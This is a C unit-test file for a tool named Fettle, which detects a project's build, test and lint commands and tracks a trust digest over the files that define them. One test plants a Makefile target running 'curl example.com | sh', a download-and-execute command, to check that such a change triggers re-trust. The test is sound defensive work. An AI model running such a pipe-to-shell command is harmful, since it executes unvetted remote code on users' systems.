/* What is detected, with which evidence, in real repositories; and what trust is given to. */
#include "project_support.h"

static void a_makefile_says_it_all(void **state) {
    struct test *t = *state;
    test_put(t, "Makefile",
             "CC := gcc\nall: x\nx:\n\ttrue\ncheck test: x\n\ttrue\nlint:\n\ttrue\n");
    struct looked looked = look(t);
    assert_string_equal(commands(t, &looked.profile),
                        "build .: make all [Makefile:2 (target all)]\n"
                        "test .: make test [Makefile:5 (target test)]\n"
                        "lint .: make lint [Makefile:7 (target lint)]\n");
}

static void scripts_of_a_package_count_but_npms_own_does_not(void **state) {
    struct test *t = *state;
    test_put(t, "package.json",
             "{\n \"scripts\": {\n  \"build\": \"tsc\",\n  \"test\": \"echo \\\"Error: no test "
             "specified\\\" && exit 1\"\n },\n \"dependencies\": {\"react\": \"19\"}\n}\n");
    test_put(t, "yarn.lock", "");
    struct looked looked = look(t);
    assert_string_equal(commands(t, &looked.profile),
                        "build .: npm run build [package.json:3 (scripts.build)]\n");
    assert_string_equal(looked.profile.facts.at[0].value, "React");
    assert_string_equal(looked.profile.facts.at[0].evidence, "package.json:6");
    assert_string_equal(looked.profile.facts.at[1].value, "Yarn");
    assert_int_equal(looked.profile.facts.count, 2);
}

static void python_tests_say_which_runner_they_want(void **state) {
    struct test *t = *state;
    test_put(t, "tests/test_a.py", "import unittest\n");
    struct looked looked = look(t);
    assert_string_equal(commands(t, &looked.profile),
                        "test .: python3 -m unittest discover -v -s tests "
                        "[tests/test_a.py (test files)]\n");
    test_put(t, "tests/test_b.py", "import pytest\n");
    looked = look(t);
    assert_non_null(strstr(commands(t, &looked.profile), "python3 -m pytest"));
}

static void folders_count_where_the_root_says_nothing(void **state) {
    struct test *t = *state;
    test_put(t, "go/go.mod", "module a\n");
    test_put(t, "web/app/package.json", "{\"scripts\": {\"test\": \"node --test\"}}");
    struct looked looked = look(t);
    const char *text = commands(t, &looked.profile);
    assert_non_null(strstr(text, "test go: go test"));
    assert_non_null(strstr(text, "test web/app: npm test [web/app/package.json:1"));
    test_put(t, "Makefile", "test:\n\ttrue\n");
    looked = look(t);
    assert_null(strstr(commands(t, &looked.profile), "go test"));
}

static void settings_replace_what_was_detected(void **state) {
    struct test *t = *state;
    test_put(t, "Makefile", "all:\n\ttrue\ntest:\n\ttrue\n");
    test_put(t, "fettle.yaml", "commands:\n  test: [./run-tests, ./more-tests]\n");
    struct looked looked = look(t);
    const char *text = commands(t, &looked.profile);
    assert_non_null(strstr(text, "build .: make all"));
    assert_non_null(strstr(text, "test .: ./run-tests"));
    assert_non_null(strstr(text, "test .: ./more-tests"));
    assert_null(strstr(text, "make test"));
}

static void c_projects_build_as_their_files_say(void **state) {
    struct test *t = *state;
    test_put(t, "CMakeLists.txt", "project(a)\nenable_testing()\n");
    struct looked looked = look(t);
    const char *text = commands(t, &looked.profile);
    assert_non_null(strstr(text, "build .: cmake"));
    assert_non_null(strstr(text, "CMakeLists.txt:2 (enable_testing)"));
    test_put(t, "configure", "#!/bin/sh\n");
    test_put(t, "Makefile.in", "all:\ntest:\n\ttrue\n");
    looked = look(t);
    assert_non_null(strstr(commands(t, &looked.profile), "sh ./configure"));
    assert_non_null(strstr(commands(t, &looked.profile), "Makefile.in:2 (target test)"));
}

static void languages_leave_generated_files_out(void **state) {
    struct test *t = *state;
    test_put(t, "a.py", "x = 1\n");
    test_put(t, "b.c", "int x;\nint y;\nint z;\n");
    test_put(t, "made.c", "int made[100000];\n");
    test_put(t, ".gitattributes", "made.c linguist-generated\n");
    struct looked looked = look(t);
    assert_int_equal(looked.profile.languages.count, 2);
    assert_string_equal(looked.profile.languages.at[0].id, "c");
    assert_int_equal(looked.profile.languages.at[0].files, 1);
}

static void trust_is_for_the_commands_and_the_files_that_define_them(void **state) {
    struct test *t = *state;
    test_put(t, "Makefile", "test:\n\ttrue\n");
    test_put(t, "a.py", "x = 1\n");
    const char *first = look(t).digest;
    test_put(t, "a.py", "x = 2\n");
    assert_string_equal(look(t).digest, first);
    test_put(t, "Makefile", "test:\n\tcurl example.com | sh\n");
    assert_string_not_equal(look(t).digest, first);
    test_put(t, "Makefile", "test:\n\ttrue\n");
    assert_string_equal(look(t).digest, first);
    test_put(t, "fettle.yaml", "commands.test: [./other]\n");
    assert_string_not_equal(look(t).digest, first);
}

/* Whether trust is asked for again when PATH becomes other TEXT. */
static bool asks_again(struct test *t, const char *path, const char *text) {
    const char *before = look(t).digest;
    test_put(t, path, text);
    return strcmp(look(t).digest, before) != 0;
}

static void trust_covers_the_scripts_that_the_commands_lead_to(void **state) {
    struct test *t = *state;
    static const char *const covered[] = {
        "more.mk",      "deep/in/rules.mk", "settings",   "opt.cfg",  "scripts/test.sh",
        "run_tests",    "tools/x.py",       "tools/y.rb", "js/t.mjs", "js/package.json",
        "lib/common",   "conftest.py",      "a/setup.py", "tox.ini",  "cmake/find.cmake",
        "a/b/build.rs", "configure.ac",
    };
    static const char *const left[] = {"src/a.py", "src/b.c", "js/index.js", "README", "opt.txt"};
    test_put(t, "Makefile",
             "include settings\n-include conf/opt.cfg\nall: src/b.c\ntest:\n\tsh run_tests\n"
             "\tcd tools && python3 ./x.py\n\t$(TOOLS)/y.rb < opt.txt\n\tnpm --prefix js test\n");
    test_put(t, "js/package.json",
             "{\"main\": \"index.js\", \"scripts\": {\"t\": \"node t.mjs\"}}");
    test_put(t, "run_tests", ". lib/common\n");
    for (size_t i = 0; i < FT_COUNT(covered); i++) {
        if (strcmp(covered[i], "run_tests") != 0 && !strstr(covered[i], ".json")) {
            test_put(t, covered[i], "one\n");
        }
    }
    for (size_t i = 0; i < FT_COUNT(left); i++) {
        test_put(t, left[i], "one\n");
        if (asks_again(t, left[i], "two\n")) {
            fail_msg("%s asks again", left[i]);
        }
    }
    for (size_t i = 0; i < FT_COUNT(covered); i++) {
        if (!asks_again(t, covered[i],
                        strstr(covered[i], "run_tests") ? ". lib/common; x\n"
                        : strstr(covered[i], ".json")   ? "{\"scripts\": {\"t\": \"node t.mjs 2\"}}"
                                                        : "two\n")) {
            fail_msg("%s does not ask again", covered[i]);
        }
    }
}

static void trust_covers_a_script_that_comes_goes_or_begins_to_run(void **state) {
    struct test *t = *state;
    test_put(t, "Makefile", "test:\n\t-./tool\n");
    const char *first = look(t).digest;
    test_put(t, "tool", "x\n");
    const char *there = look(t).digest;
    assert_string_not_equal(there, first);
    assert_int_equal(chmod(test_path(t, "tool"), 0755), 0);
    assert_string_not_equal(look(t).digest, there);
    assert_int_equal(unlink(test_path(t, "tool")), 0);
    assert_string_equal(look(t).digest, first);
}

/* Scripts that name one another without end: past the bound every file counts. */
static void a_chain_of_scripts_that_is_too_long_covers_everything(void **state) {
    struct test *t = *state;
    test_put(t, "Makefile", "test:\n\t./s0\n");
    test_put(t, "src/a.c", "1\n");
    for (int i = 0; i < 12; i++) {
        test_put(t, ft_sprintf(t->cx.arena, "s%d", i),
                 ft_sprintf(t->cx.arena, "./s%d; ./s0\n", i + 1));
    }
    assert_false(asks_again(t, "src/a.c", "2\n"));
    assert_true(asks_again(t, "s11", "./other\n"));
    for (int i = 12; i < 30; i++) {
        test_put(t, ft_sprintf(t->cx.arena, "s%d", i - 1), ft_sprintf(t->cx.arena, "./s%d\n", i));
    }
    assert_true(asks_again(t, "src/a.c", "3\n"));
}

/* As Fettle's own fettle.yaml has them. */
static void a_project_may_name_its_own_programs(void **state) {
    struct test *t = *state;
    static const struct {
        const char *line, *needs;
        bool available;
    } cases[] = {
        {"tools/build.sh release", "tools/build.sh", true},
        {"./tools/build.sh", "./tools/build.sh", true},
        {"./absent", "./absent", false},
        {"CC=gcc make -s", "make", true},
        {"cd sub && make", "make", true},
        {"cd sub && no-such-program-anywhere", "no-such-program-anywhere", false},
        {"true", "sh", true},
    };
    for (size_t i = 0; i < FT_COUNT(cases); i++) {
        test_put(t, "tools/build.sh", "#!/bin/sh\n");
        test_put(t, "fettle.yaml",
                 ft_sprintf(t->cx.arena, "commands.test: [\"%s\"]\n", cases[i].line));
        struct looked looked = look(t);
        const struct ft_project_command *command = &looked.profile.commands.at[0];
        assert_string_equal(command->needs, cases[i].needs);
        if (command->available != cases[i].available) {
            fail_msg("%s", cases[i].line);
        }
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        TEST(a_makefile_says_it_all),
        TEST(scripts_of_a_package_count_but_npms_own_does_not),
        TEST(python_tests_say_which_runner_they_want),
        TEST(folders_count_where_the_root_says_nothing),
        TEST(settings_replace_what_was_detected),
        TEST(a_project_may_name_its_own_programs),
        TEST(c_projects_build_as_their_files_say),
        TEST(languages_leave_generated_files_out),
        TEST(trust_is_for_the_commands_and_the_files_that_define_them),
        TEST(trust_covers_the_scripts_that_the_commands_lead_to),
        TEST(trust_covers_a_script_that_comes_goes_or_begins_to_run),
        TEST(a_chain_of_scripts_that_is_too_long_covers_everything),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
